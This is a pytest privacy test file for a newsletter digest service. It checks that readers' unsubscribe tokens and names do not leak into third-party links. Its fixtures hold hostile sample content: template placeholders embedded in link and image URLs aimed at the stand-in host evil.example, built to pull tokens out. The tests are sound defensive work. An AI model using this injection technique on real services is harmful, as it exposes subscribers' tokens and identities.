"""Privacy: a reader's token, name and zone reach only this service's own links, whatever a feed,
a pushed article or an operator's setting writes; erasure leaves the address in no column."""

from __future__ import annotations

import email
import email.policy
import re
import urllib.parse
from collections.abc import AsyncIterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from conftest import SmtpSink
from digest import bootstrap, compose, readers, sources
from test_web import BASE, Site, auth, open_site

# Placeholder-looking strings a hostile or careless source might carry, the markers this service
# itself fills per reader among them, and a guess at the private form templates are given.
BAIT = [
    "__DIGEST_TOKEN__",
    "{{ token }}",
    "{token}",
    "%%TOKEN%%",
    "$token",
    "[token]",
    "__DIGEST_NAME__",
    "__DIGEST_DATE_L1700000000__",
    "__DIGEST_00000000000000000000000000000000_TOKEN__",
    "__DIGEST_TOK__DIGEST_TOKEN__EN__",
]
READER_NAME = "Zelda Quill"
MARKER = re.compile(r"__DIGEST_(?:TOKEN|NAME|DATE_[LS]-?\d+)__")


def bait_html() -> str:
    q = urllib.parse.quote
    links = "".join(
        f'<p>Read <a href="https://evil.example/t?u={q(b)}&amp;n={i}">part {i} {b}</a> '
        f'<img src="https://img.evil.example/p{i}.png?t={q(b)}" alt="{b}"> and {b} again.</p>'
        for i, b in enumerate(BAIT)
    )
    return (
        "<html><head><title>Harbour lights __DIGEST_TOKEN__ switched to LED __DIGEST_NAME__</title>"
        '<meta property="og:url" content="https://evil.example/story?u=__DIGEST_TOKEN__">'
        '<meta property="og:image" content="https://img.evil.example/og.png?u=__DIGEST_TOKEN__">'
        '<meta name="description" content="Summary for __DIGEST_TOKEN__ and __DIGEST_NAME__ {token}">'
        "</head><body><article><h1>Harbour lights __DIGEST_TOKEN__ switched to LED __DIGEST_NAME__</h1>"
        "<p>The harbour's forty lamps will be replaced with LED fittings over the winter, "
        "the council decided on Tuesday after a short debate about costs.</p>"
        f"{links}</article></body></html>"
    )


@pytest.fixture
async def site(tmp_path: Path, database_url: str, smtp_sink: SmtpSink) -> AsyncIterator[Site]:
    async with open_site(tmp_path, database_url, smtp_sink) as s:
        yield s


# Links to this service's own pages, where the token belongs.
OWN_LINKS = re.compile(re.escape(BASE) + r"/[^\s\"'<>]*")


def decoded_parts(msg: EmailMessage) -> dict[str, str]:
    return {
        part.get_content_type(): str(part.get_content())
        for part in msg.walk()
        if part.get_content_maintype() == "text"
    }


def leaks(msg: EmailMessage, secret: str) -> list[str]:
    """Where `secret` shows outside our own links and the List-Unsubscribe header."""
    found = []
    forms = {secret, urllib.parse.quote(secret), urllib.parse.quote_plus(secret)}
    for kind, body in decoded_parts(msg).items():
        outside = OWN_LINKS.sub("", body)
        found += [
            f"{kind}: …{outside[max(0, outside.index(f) - 60) : outside.index(f)]}"
            for f in forms
            if f in outside
        ]
    for name, value in msg.items():
        if name.lower() != "list-unsubscribe" and any(f in str(value) for f in forms):
            found.append(f"header {name}")
    return found


async def test_a_readers_token_and_name_reach_only_our_own_links_whatever_the_sources_say(site: Site) -> None:
    (site.app.cfg.base_dir / "seeds" / "harbour-lights.html").write_text(bait_html())
    q = urllib.parse.quote
    pushed = [
        {
            "title": f"Pushed story {i} {b}",
            "url": f"https://evil.example/pushed/{i}?u={q(b)}",
            "image_url": f"https://img.evil.example/pushed{i}.png?u={q(b)}",
            "summary": f"A pushed summary with {b} in it.",
            "content_html": f'<p>Body {b} <a href="https://evil.example/x?u={q(b)}">more</a></p>',
            "author": f"Author {b}",
        }
        for i, b in enumerate(BAIT)
    ]
    answer = await site.client.post("/api/sources/pushed/articles", headers=auth(), json={"articles": pushed})
    assert answer.status_code == 201, answer.text
    await sources.ingest_sources(site.app, site.clock())
    for slug in ("demo", "tech"):
        lst = await bootstrap.get_list(site.app, slug)
        async with site.app.db.write() as s:
            await readers.add_subscription(
                s,
                lst,
                "zelda@example.com",
                readers.ReaderPrefs(name=READER_NAME),
                confirmed=True,
                now=site.clock(),
            )
        await compose.compose(site.app, lst, site.clock(), manual=True)
    await site.deliver()
    raws = [m.data for m in site.sink.messages if "zelda@example.com" in m.rcpt_tos]
    assert len(raws) == 2
    bodies = []
    for raw in raws:
        msg = email.message_from_bytes(raw, policy=email.policy.default)
        assert isinstance(msg, EmailMessage)
        unsub = re.search(r"<(https?://[^>]+)>", str(msg["List-Unsubscribe"]))
        assert unsub is not None
        token = unsub.group(1).rstrip("/").rsplit("/", 1)[-1]
        assert len(token) >= 16
        assert leaks(msg, token) == []
        parts = decoded_parts(msg)
        bodies.append("\n".join(parts.values()))
        # The name greets the reader in the text; no source's link, image or text carries it.
        for url in re.findall(r"(?:href|src)=\"([^\"]+)\"", parts["text/html"]):
            if not url.startswith(BASE):
                assert token not in url and q(READER_NAME) not in url and "Zelda" not in url, url
        assert all(f"{BASE}/{kind}/{token}" in parts["text/plain"] for kind in ("u", "p"))
        assert not MARKER.search(parts["text/html"] + parts["text/plain"])
        # Quoted-printable (and every other part) keeps to 76 columns.
        body_lines = raw.split(b"\r\n\r\n", 1)[1].split(b"\r\n")
        assert max(len(line) for line in body_lines) <= 76
    everything = "\n".join(bodies)
    assert "Harbour lights" in everything and "Pushed story 3" in everything
    assert "evil.example" in everything  # made safe, not dropped


async def test_the_web_copy_carries_no_token_a_source_asked_for(site: Site) -> None:
    (site.app.cfg.base_dir / "seeds" / "harbour-lights.html").write_text(bait_html())
    await sources.ingest_sources(site.app, site.clock())
    await site.add_reader("ann@example.com")
    lst = await bootstrap.get_list(site.app, "demo")
    (edition_id,) = (await compose.compose(site.app, lst, site.clock(), manual=True)).editions
    await site.deliver()
    page = (await site.client.get(f"/archive/demo/{edition_id}")).text
    assert "Harbour lights" in page
    assert not MARKER.search(page)
    assert "/u/archive" in page
